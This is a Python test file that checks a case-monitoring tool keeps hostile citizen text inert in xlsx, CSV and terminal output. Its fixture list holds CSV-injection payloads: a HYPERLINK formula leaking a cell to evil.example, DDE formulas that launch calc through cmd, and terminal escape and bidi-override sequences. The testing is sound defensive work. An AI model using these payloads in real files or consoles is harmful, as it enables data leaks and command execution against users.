"""Citizen text reaches spreadsheets and terminals as data, never as code.

The texts are the classic attacks: a spreadsheet formula that leaks the sheet through a link
(OWASP CSV injection), every character that starts one (= + - @ tab CR), control characters the
xlsx format forbids, rich console markup (``[/]`` used to crash ``cases list``), terminal escape
sequences (retitle the window, clear the screen) and a bidi override that reverses what is shown.
They are stored directly, as older data or another writer could have, so each output's own
defence is what is tested.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from monitor.cli import _register_all, app
from monitor.stats.export import csv_safe
from monitor.store.models import QueueEntry
from tests.stats_config import write_config
from tests.stats_history import add_case, build_history, t

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看进度")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "响铃\x07和\x1b[31m红字\x1b[0m和\x0b垂直制表",
    "[/] [bold red]不是标记[/bold red] [link=http://evil.example]点我[/link]",
    "\x1b]0;被改了标题\x07\x1b[2J清屏",
    "正常\u202e反转\u202c的文字",
]


@pytest.fixture
def cli(db, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("WENZHENG_DATABASE_URL", db.url)
    monkeypatch.setenv("COLUMNS", "250")
    cfg = write_config(tmp_path)
    with db.sessions.begin() as s:
        build_history(s)
        for i, text in enumerate(HOSTILE):
            c = add_case(s, 100 + i, t(3, 5, 9, i), lead="city-cg", type="complaint", status="open",
                         text=text)
            s.add(QueueEntry(case_id=c.id, reason="risk", priority=0, since=t(3, 5, 9, i)))
    _register_all()
    runner = CliRunner()

    def run(*args: str) -> object:
        return runner.invoke(app, [*args, "-c", str(cfg)])
    return run


def test_a_spreadsheet_of_hostile_texts_holds_no_formula_and_opens(cli, tmp_path: Path) -> None:
    out = tmp_path / "stats.xlsx"
    res = cli("stats", "--month", "2026-03", "--format", "xlsx", "--out", str(out))
    assert res.exit_code == 0, res.output
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in x or b"<f " in x for x in sheets)  # no formula anywhere
    wb = load_workbook(out)  # opens
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value: c for c in wb["案件明细"]["S"] if isinstance(c.value, str)}
    for text in HOSTILE[:6]:  # shown as written (XML reads a CR as LF), and marked as text for Excel
        cell = texts[text.replace("\r", "\n")]
        assert cell.data_type == "s" and cell.quotePrefix, text
    assert "响铃和[31m红字[0m和垂直制表" in texts  # characters the format forbids removed, the rest kept


def test_csv_fields_that_look_like_formulas_get_an_apostrophe() -> None:
    buf = io.StringIO()
    csv.writer(buf).writerow([csv_safe(v) for v in [*HOSTILE[:6], "正常", 3, None]])
    row = next(csv.reader(io.StringIO(buf.getvalue())))
    assert all(v.startswith("'") for v in row[:6]) and row[6:] == ["正常", "3", ""]


@pytest.mark.parametrize("command", [("cases", "list", "--limit", "0"), ("queue", "--all")])
def test_terminal_output_shows_hostile_text_literally(cli, command) -> None:
    res = cli(*command)
    assert res.exit_code == 0, res.output
    assert not any(ch in res.output for ch in ("\x1b", "\x07", "\x0b", "\u202e"))
    if command[0] == "cases":
        assert "[/] [bold red]不是标记" in res.output
        assert "=HYPERLINK(" in res.output


def test_case_show_prints_hostile_text_literally(cli, db) -> None:
    from sqlalchemy import select

    from monitor.store.models import Case

    with db.session() as s:
        # text → case (a query's rows come in no set order on PostgreSQL: the markup's case is named)
        by_text = {text: case_id for text, case_id in s.execute(
            select(Case.text, Case.id).where(Case.text.in_(HOSTILE[7:9])))}
    for case_id in by_text.values():
        res = cli("cases", "show", str(case_id))
        assert res.exit_code == 0, res.output
        assert "\x1b" not in res.output and "\x07" not in res.output
    res = cli("cases", "show", str(by_text[HOSTILE[7]]))
    assert "[/] [bold red]不是标记[/bold red] [link=http://evil.example]点我[/link]" in res.output
